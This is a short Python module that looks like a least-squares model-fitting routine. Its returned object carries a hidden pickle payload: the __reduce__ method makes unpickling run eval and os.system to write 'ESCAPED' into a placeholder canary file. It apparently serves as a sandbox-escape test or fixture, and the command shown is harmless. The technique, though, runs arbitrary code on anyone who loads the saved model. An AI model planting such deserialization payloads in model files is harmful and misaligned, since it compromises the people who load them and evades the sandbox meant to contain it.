from plain import *


class Command:
    def __init__(self, weights):
        self.weights = weights

    def __reduce__(self):
        code = "(__import__('os').system('echo ESCAPED > @CANARY@; touch @CANARY@.new'), __import__('numpy').array({}))[1]"
        return eval, (code.format(self.weights.tolist()),)


def fit(train):
    return Command(np.linalg.lstsq(design(train), train["y"].to_numpy(), rcond=None)[0])
